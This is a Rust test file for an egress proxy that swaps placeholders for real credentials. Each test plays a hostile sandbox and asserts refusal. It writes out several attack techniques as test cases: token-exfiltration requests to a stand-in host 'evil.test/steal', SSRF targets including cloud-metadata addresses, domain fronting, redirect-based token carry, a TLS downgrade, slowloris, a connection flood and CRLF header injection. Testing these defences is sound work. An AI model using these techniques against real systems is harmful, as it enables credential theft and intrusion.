//! The attack suite: a hostile sandbox (or upstream) tries every door, and no
//! real credential leaves through the wrong one. Each attack asserts the
//! refusal and that no server other than the bound one saw the real secret.

use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::support::clients::{curl, python, Output};
use crate::support::{
    assert_not_leaked, blocking, real_secret, tunnel, with_env, Airlock, TestCa, Upstream,
};

pub(crate) const BOUND: &str = "api.bound.test";
pub(crate) const OTHER: &str = "evil.test";

pub(crate) struct Range {
    pub(crate) _ca: TestCa,
    pub(crate) bound: Upstream,
    pub(crate) other: Upstream,
    pub(crate) airlock: Airlock,
    pub(crate) real: String,
    pub(crate) placeholder: String,
}

pub(crate) async fn range(proxy_extra: &str) -> Range {
    let ca = TestCa::new();
    let bound = Upstream::start(&ca, &[BOUND]).await;
    let other = Upstream::start(&ca, &[OTHER]).await;
    let real = real_secret("attack");
    let cfg = format!(
        "[proxy]\nupstream_ca = [{:?}]\n{proxy_extra}\n\n[resolve]\n\"{BOUND}\" = \"127.0.0.1:{}\"\n\"{OTHER}\" = \"127.0.0.1:{}\"\n\n\
         [[secret]]\nname = \"API_TOKEN\"\nvalue = {real:?}\nhosts = [\"{BOUND}\"]\nswap_in = [\"header\", \"basic\", \"body\", \"query\"]\n",
        ca.cert_pem_path().display().to_string(),
        bound.port(),
        other.port()
    );
    let airlock = Airlock::start(&cfg);
    let placeholder = airlock.var("API_TOKEN");
    Range {
        _ca: ca,
        bound,
        other,
        airlock,
        real,
        placeholder,
    }
}

impl Range {
    pub(crate) fn no_leak(&self, outputs: &[&Output]) {
        let logs = self.airlock.logs();
        let mut texts: Vec<&str> = outputs
            .iter()
            .flat_map(|o| [o.stdout.as_str(), o.stderr.as_str()])
            .collect();
        texts.push(&logs);
        assert_not_leaked(&self.real, &texts);
        assert!(
            !self.other.raw_contains(&self.real),
            "the real secret reached a server it is not bound to"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_placeholder_for_another_host_is_refused_wherever_it_hides() {
    let r = range("intercept = \"all\"").await;
    let p = r.placeholder.clone();
    let random = p["miosa-tok-".len()..].to_owned();
    let gz = tempfile::NamedTempFile::new().unwrap();
    {
        let mut enc = flate2::write::GzEncoder::new(
            std::fs::File::create(gz.path()).unwrap(),
            flate2::Compression::default(),
        );
        std::io::Write::write_all(&mut enc, format!(r#"{{"t":"{p}"}}"#).as_bytes()).unwrap();
        enc.finish().unwrap();
    }
    let env = r.airlock.env.clone();
    let gz_arg = format!("@{}", gz.path().display());
    let outs = blocking(move || {
        let url = format!("https://{OTHER}/steal");
        let basic = format!("x-access-token:{p}");
        let cases: Vec<Vec<String>> = vec![
            vec![
                "-H".into(),
                format!("Authorization: Bearer {p}"),
                url.clone(),
            ],
            vec!["-u".into(), basic, url.clone()],
            vec![format!("{url}?token={p}")],
            vec![
                "-H".into(),
                "content-type: application/json".into(),
                "--data".into(),
                format!(r#"{{"t":"{p}"}}"#),
                url.clone(),
            ],
            vec!["--data".into(), format!("t={p}"), url.clone()],
            vec![
                "--data".into(),
                format!("t=miosa%2Dtok%2D{random}"),
                url.clone(),
            ],
            vec![
                "-H".into(),
                "content-type: application/json".into(),
                "--data".into(),
                format!(r#"{{"t":"miosa\u002dtok\u002d{random}"}}"#),
                url.clone(),
            ],
            vec![
                "-H".into(),
                "content-encoding: gzip".into(),
                "--data-binary".into(),
                gz_arg,
                url.clone(),
            ],
        ];
        cases
            .into_iter()
            .map(|case| {
                let mut args = vec!["-s", "-o", "/dev/null", "-w", "%{http_code}"];
                args.extend(case.iter().map(String::as_str));
                curl(&env, &args)
            })
            .collect::<Vec<_>>()
    })
    .await;
    // Credential positions (header, Basic, URL) are refused; in a body the
    // placeholder is inert text (an LLM transcript quoting it) and goes on
    // unchanged: worthless off its binding.
    for (i, out) in outs.iter().enumerate() {
        let expected = if i < 3 { "403" } else { "200" };
        assert_eq!(
            out.stdout, expected,
            "attack {i}: expected {expected}: {}",
            out.stderr
        );
    }
    // Split across many small chunks of a streamed body: inert too.
    let env = r.airlock.env.clone();
    let script = format!(
        "import requests\ndef gen():\n    for c in 'xx{}yy':\n        yield c.encode()\nr = requests.post('https://{OTHER}/steal', data=gen())\nprint(r.status_code)",
        r.placeholder
    );
    let split = blocking(move || python(&env, &script)).await;
    assert_eq!(split.stdout.trim(), "200", "{}", split.stderr);
    // In a WebSocket handshake: a credential position.
    let mut tls = tunnel::tls_through(
        r.airlock.proxy_addr(),
        &format!("{OTHER}:443"),
        OTHER,
        r.airlock.ca_path().as_path(),
        &[b"http/1.1"],
    )
    .await;
    let handshake = format!(
        "GET /ws HTTP/1.1\r\nHost: {OTHER}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nAuthorization: Bearer {}\r\n\r\n",
        r.placeholder
    );
    tls.write_all(handshake.as_bytes()).await.unwrap();
    let mut answer = vec![0u8; 12];
    tls.read_exact(&mut answer).await.unwrap();
    assert_eq!(&answer, b"HTTP/1.1 403");
    // Only the body cases reached the other host, and each carried the
    // placeholder as the sandbox wrote it, never the token.
    let seen = r.other.requests();
    assert_eq!(
        seen.len(),
        6,
        "the unbound upstream saw {} requests",
        seen.len()
    );
    assert!(
        seen.iter()
            .all(|req| !req.headers.iter().any(|(_, v)| v.contains(&r.placeholder))),
        "a credential position reached the unbound host"
    );
    assert!(
        !r.other.raw_contains(&r.real),
        "the real secret reached {OTHER}"
    );
    // Each inert pass is marked in the audit line.
    let logs = r.airlock.wait_for_log("inert=secret:API_TOKEN");
    assert!(logs.contains("inert=secret:API_TOKEN"));
    let mut all: Vec<&Output> = outs.iter().collect();
    all.push(&split);
    r.no_leak(&all);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_binding_can_refuse_its_placeholder_in_foreign_bodies() {
    let ca = TestCa::new();
    let other = Upstream::start(&ca, &[OTHER]).await;
    let real = real_secret("refusebody");
    let cfg = format!(
        "[proxy]\nintercept = \"all\"\nupstream_ca = [{:?}]\n\n[resolve]\n\"{OTHER}\" = \"127.0.0.1:{}\"\n\n\
         [[secret]]\nname = \"API_TOKEN\"\nvalue = {real:?}\nhosts = [\"{BOUND}\"]\non_foreign_body = \"refuse\"\n",
        ca.cert_pem_path().display().to_string(),
        other.port()
    );
    let airlock = Airlock::start(&cfg);
    let p = airlock.var("API_TOKEN");
    let env = airlock.env.clone();
    let out = blocking(move || {
        curl(
            &env,
            &[
                "-s",
                "-D",
                "-",
                "--data",
                &format!("quote={p}"),
                &format!("https://{OTHER}/chat"),
            ],
        )
    })
    .await;
    assert!(
        // `-D -` prints the CONNECT answer first.
        out.stdout.contains("HTTP/1.1 403") || out.stdout.contains("HTTP/2 403"),
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("host_not_allowed"), "{}", out.stdout);
    assert!(other.requests().is_empty());
    assert_not_leaked(&real, &[&out.stdout, &airlock.logs()]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn domain_fronting_and_coalescing_do_not_move_a_token() {
    // `bound` mode: the unbound host below is tunnelled, not intercepted.
    let r = range("intercept = \"bound\"").await;
    let env = r.airlock.env.clone();
    let auth = format!("Authorization: Bearer {}", r.placeholder);
    let outs = blocking(move || {
        (
            // CONNECT to the bound host, Host names another.
            curl(
                &env,
                &[
                    "-s",
                    "-o",
                    "/dev/null",
                    "-w",
                    "%{http_code}",
                    "--http1.1",
                    "-H",
                    &format!("Host: {OTHER}"),
                    "-H",
                    &auth,
                    &format!("https://{BOUND}/"),
                ],
            ),
            // CONNECT to an unbound host (tunnelled), Host names the bound one: only the
            // placeholder travels, and it is worthless there.
            curl(
                &with_env(&env, &[("CURL_CA_BUNDLE", "/dev/null")]),
                &[
                    "-s",
                    "-k",
                    "-o",
                    "/dev/null",
                    "-w",
                    "%{http_code}",
                    "-H",
                    &format!("Host: {BOUND}"),
                    "-H",
                    &auth,
                    &format!("https://{OTHER}/"),
                ],
            ),
        )
    })
    .await;
    assert_eq!(outs.0.stdout, "421");
    assert!(
        r.other.raw_contains(&r.placeholder),
        "the tunnel carried the placeholder as is"
    );
    // HTTP/2: a request for another authority on the bound host's connection.
    let tls = tunnel::tls_through(
        r.airlock.proxy_addr(),
        &format!("{BOUND}:443"),
        BOUND,
        r.airlock.ca_path().as_path(),
        &[b"h2"],
    )
    .await;
    let mut sender = tunnel::h2_client(tls).await;
    let req = http::Request::get(format!("https://{OTHER}/coalesced"))
        .header("authorization", format!("Bearer {}", r.placeholder))
        .body(http_body_util::Full::default())
        .unwrap();
    let (status, _, _, _) = tunnel::collect(sender.send_request(req).await.unwrap()).await;
    assert_eq!(status, 421);
    assert!(r.bound.requests().is_empty());
    r.no_leak(&[&outs.0, &outs.1]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn private_addresses_in_every_spelling_are_refused() {
    let r = range("").await;
    let env = with_env(&r.airlock.env, &[("NO_PROXY", ""), ("no_proxy", "")]);
    let targets = [
        "localhost",
        "169.254.169.254",
        "0.0.0.0",
        "[::ffff:127.0.0.1]",
        "[::1]",
        "2130706433",
        "0177.0.0.1",
        "100.64.0.1",
        "[fd00:ec2::254]",
        "10.0.0.1",
    ];
    let outs = blocking(move || {
        targets
            .iter()
            .map(|t| {
                curl(
                    &env,
                    &[
                        "-s",
                        "-o",
                        "/dev/null",
                        "-w",
                        "%{http_connect}",
                        &format!("https://{t}/"),
                    ],
                )
            })
            .collect::<Vec<_>>()
    })
    .await;
    for (t, out) in targets.iter().zip(&outs) {
        assert_eq!(
            out.stdout, "403",
            "CONNECT {t} was not refused: {}",
            out.stderr
        );
    }
    let logs = r.airlock.wait_for_log("egress_denied");
    assert!(
        logs.contains("cloud metadata") && logs.contains("loopback"),
        "{logs}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_never_carries_the_real_token_elsewhere() {
    let r = range("").await;
    let env = r.airlock.env.clone();
    let auth = format!("Authorization: Bearer {}", r.placeholder);
    let target = format!("https://{OTHER}/landing");
    let out = blocking(move || {
        // --location-trusted: the client re-sends its Authorization after the redirect.
        curl(
            &env,
            &[
                "-s",
                "-L",
                "--location-trusted",
                "-k",
                "-H",
                &auth,
                &format!("https://{BOUND}/redirect?to={target}"),
            ],
        )
    })
    .await;
    let first = &r.bound.requests()[0];
    assert_eq!(
        first.header("authorization"),
        Some(format!("Bearer {}", r.real).as_str())
    );
    assert_eq!(
        r.bound.requests().len(),
        1,
        "the proxy itself never follows redirects"
    );
    let landing = r.other.requests();
    assert!(landing
        .iter()
        .all(|x| x.header("authorization") != Some(format!("Bearer {}", r.real).as_str())));
    r.no_leak(&[&out]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_clients_are_refused_and_the_proxy_keeps_serving() {
    let r = range("header_read_timeout_secs = 1\nmax_connections_per_sandbox = 40").await;
    let proxy = r.airlock.proxy_addr();
    // TLS 1.0 only.
    let env = r.airlock.env.clone();
    let script = format!(
        "import socket, ssl\nctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\nctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE\n\
         ctx.minimum_version = ssl.TLSVersion.MINIMUM_SUPPORTED\nctx.maximum_version = ssl.TLSVersion.TLSv1\nctx.set_ciphers('ALL:@SECLEVEL=0')\n\
         s = socket.create_connection(('{}', {}))\ns.sendall(b'CONNECT {BOUND}:443 HTTP/1.1\\r\\nHost: {BOUND}:443\\r\\n\\r\\n')\ns.recv(4096)\n\
         try:\n    ctx.wrap_socket(s, server_hostname='{BOUND}')\n    print('handshake-succeeded')\nexcept (ssl.SSLError, OSError) as e:\n    print('refused')\n",
        proxy.ip(),
        proxy.port()
    );
    let tls10 = blocking(move || python(&env, &script)).await;
    assert_eq!(tls10.stdout.trim(), "refused", "{}", tls10.stderr);

    // Slowloris: a head trickled in never completes; the proxy hangs up.
    let mut slow = tokio::net::TcpStream::connect(proxy).await.unwrap();
    slow.write_all(b"CONNECT api").await.unwrap();
    let started = Instant::now();
    let mut buf = [0u8; 256];
    let closed = tokio::time::timeout(Duration::from_secs(10), async {
        loop {
            tokio::time::sleep(Duration::from_millis(300)).await;
            if slow.write_all(b".").await.is_err() {
                return;
            }
            match tokio::time::timeout(Duration::from_millis(10), slow.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => return,
                _ => {}
            }
        }
    })
    .await;
    assert!(
        closed.is_ok(),
        "a slow header was held open for {:?}",
        started.elapsed()
    );

    // Many hostile connections at once cannot exceed the per-sandbox limit.
    let mut held = Vec::new();
    for _ in 0..40 {
        let (code, _, s) = tunnel::connect(proxy, &format!("{BOUND}:443")).await;
        assert_eq!(code, 200);
        held.push(s);
    }
    let (code, head, _) = tunnel::connect(proxy, &format!("{BOUND}:443")).await;
    assert_eq!(code, 429, "{head}");
    assert!(head.contains("too_many_connections"), "{head}");
    drop(held);
    tokio::time::sleep(Duration::from_millis(200)).await;

    // Header injection through a swapped value is impossible: CR/LF never enter a header
    // (tested on the swapper); here, a placeholder glued to CRLF text stays one header.
    let env = r.airlock.env.clone();
    let auth = format!("X-Test: {}%0d%0aX-Injected: 1", r.placeholder);
    let ok = blocking(move || {
        curl(
            &env,
            &[
                "-s",
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                "-H",
                &auth,
                &format!("https://{BOUND}/after"),
            ],
        )
    })
    .await;
    assert_eq!(ok.stdout, "200", "the proxy kept serving: {}", ok.stderr);
    let last = r.bound.requests().pop().unwrap();
    assert!(last.header("x-injected").is_none());

    // Metrics saw the limits.
    let metrics = r.airlock.scrape_metrics().await;
    assert!(
        metrics
            .stdout
            .contains("airlock_refusals_total{reason=\"too_many_connections\"}"),
        "{}",
        metrics.stdout
    );
    assert!(
        metrics
            .stdout
            .contains("airlock_connection_errors_total{reason=\"header_read_timeout\"}"),
        "{}",
        metrics.stdout
    );
    assert!(
        metrics.stdout.contains("airlock_certificates_minted"),
        "{}",
        metrics.stdout
    );
    r.no_leak(&[&tls10, &ok, &metrics]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn config_reload_on_sighup_keeps_connections_and_swaps_the_new_secret() {
    let ca = TestCa::new();
    let bound = Upstream::start(&ca, &[BOUND]).await;
    let placeholder = "miosa-tok-RELOADxxxxxxxxxxxxxxxxxxxxxxxxxxx";
    let cfg = |value: &str| {
        format!(
            "[proxy]\nupstream_ca = [{:?}]\n[resolve]\n\"{BOUND}\" = \"127.0.0.1:{}\"\n[[secret]]\nname = \"API_TOKEN\"\nvalue = {value:?}\nplaceholder = \"{placeholder}\"\nhosts = [\"{BOUND}\"]\n",
            ca.cert_pem_path().display().to_string(),
            bound.port()
        )
    };
    let airlock = Airlock::start(&cfg("first-real-value-1"));
    // One request at a time on one keep-alive connection: read each answer whole.
    async fn send(
        conn: &mut hyper::client::conn::http1::SendRequest<http_body_util::Full<bytes::Bytes>>,
        req: http::Request<http_body_util::Full<bytes::Bytes>>,
    ) -> u16 {
        conn.ready().await.expect("connection ready");
        let (status, _, _, _) =
            tunnel::collect(conn.send_request(req).await.expect("answer")).await;
        status.as_u16()
    }
    let tls = tunnel::tls_through(
        airlock.proxy_addr(),
        &format!("{BOUND}:443"),
        BOUND,
        airlock.ca_path().as_path(),
        &[b"http/1.1"],
    )
    .await;
    let mut conn = tunnel::h1_client(tls).await;
    let get = || {
        http::Request::get("/r")
            .header("host", BOUND)
            .header("authorization", format!("Bearer {placeholder}"))
            .body(http_body_util::Full::default())
            .unwrap()
    };
    assert_eq!(send(&mut conn, get()).await, 200);
    std::fs::write(&airlock.config_path, cfg("second-real-value-2")).unwrap();
    let status = std::process::Command::new("kill")
        .args(["-HUP", &airlock.pid().to_string()])
        .status()
        .unwrap();
    assert!(status.success());
    airlock.wait_for_log("configuration reloaded");
    // The same connection, now with the new secret.
    assert_eq!(send(&mut conn, get()).await, 200);
    let seen: Vec<String> = bound
        .requests()
        .iter()
        .filter_map(|r| r.header("authorization").map(str::to_owned))
        .collect();
    assert_eq!(
        seen,
        vec![
            "Bearer first-real-value-1".to_owned(),
            "Bearer second-real-value-2".to_owned()
        ]
    );
    // A broken config is refused and the running one stays.
    std::fs::write(&airlock.config_path, "[proxy]\nnot_a_key = 1\n").unwrap();
    std::process::Command::new("kill")
        .args(["-HUP", &airlock.pid().to_string()])
        .status()
        .unwrap();
    airlock.wait_for_log("not reloaded");
    assert_eq!(send(&mut conn, get()).await, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_client_protocol_is_served_and_a_silent_connection_is_closed() {
    let r = range("header_read_timeout_secs = 1").await;
    let proxy = r.airlock.proxy_addr();
    let ca = r.airlock.ca_path();
    let target = format!("{BOUND}:443");
    let auth = format!("Bearer {}", r.placeholder);
    let request = |uri: String| {
        http::Request::get(uri)
            .header("authorization", auth.as_str())
            .body(http_body_util::Full::<bytes::Bytes>::default())
            .unwrap()
    };

    // By ALPN, and by the preface from a client that offered no ALPN.
    let h2: &[u8] = b"h2";
    let h1: &[u8] = b"http/1.1";
    for (alpn, speak_h2, path) in [
        (vec![h2], true, "/alpn-h2"),
        (vec![h1], false, "/alpn-h1"),
        (vec![], true, "/no-alpn-h2"),
        (vec![], false, "/no-alpn-h1"),
    ] {
        let tls = tunnel::tls_through(proxy, &target, BOUND, &ca, &alpn).await;
        let answer = if speak_h2 {
            let mut sender = tunnel::h2_client(tls).await;
            sender
                .send_request(request(format!("https://{BOUND}{path}")))
                .await
        } else {
            let mut sender = tunnel::h1_client(tls).await;
            let mut req = request(path.to_owned());
            req.headers_mut()
                .insert("host", http::HeaderValue::from_static(BOUND));
            sender.send_request(req).await
        };
        let (status, ..) = tunnel::collect(answer.expect("an answer")).await;
        assert_eq!(status, 200, "{path}");
        let seen = r.bound.requests().pop().expect("the upstream saw it");
        assert_eq!(seen.path_and_query, path);
        assert_eq!(
            seen.header("authorization"),
            Some(format!("Bearer {}", r.real).as_str()),
            "{path}"
        );
    }

    // A request head trickled in two TLS records after a pause is served whole.
    let mut tls = tunnel::tls_through(proxy, &target, BOUND, &ca, &[h1]).await;
    tls.write_all(format!("GET /trickled HTTP/1.1\r\nHost: {BOUND}\r\n").as_bytes())
        .await
        .unwrap();
    tls.flush().await.unwrap();
    tokio::time::sleep(Duration::from_millis(200)).await;
    tls.write_all(format!("Authorization: {auth}\r\nConnection: close\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), tls.read_to_end(&mut answer)).await;
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    let seen = r.bound.requests().pop().expect("the upstream saw it");
    assert_eq!(seen.path_and_query, "/trickled");
    assert_eq!(
        seen.header("authorization"),
        Some(format!("Bearer {}", r.real).as_str())
    );

    // A connection that says nothing after its handshake is closed once
    // header_read_timeout has passed, and counted.
    let mut silent = tunnel::tls_through(proxy, &target, BOUND, &ca, &[h1]).await;
    let started = Instant::now();
    let mut buf = [0u8; 64];
    let read = tokio::time::timeout(Duration::from_secs(10), silent.read(&mut buf)).await;
    assert!(
        matches!(read, Ok(Ok(0)) | Ok(Err(_))),
        "a silent connection was still open after {:?}",
        started.elapsed()
    );
    assert!(
        started.elapsed() >= Duration::from_millis(900),
        "closed too soon: {:?}",
        started.elapsed()
    );
    let metrics = r.airlock.scrape_metrics().await;
    assert!(
        metrics
            .stdout
            .contains("airlock_connection_errors_total{reason=\"header_read_timeout\"} 1"),
        "{}",
        metrics.stdout
    );
    r.no_leak(&[&metrics]);
}
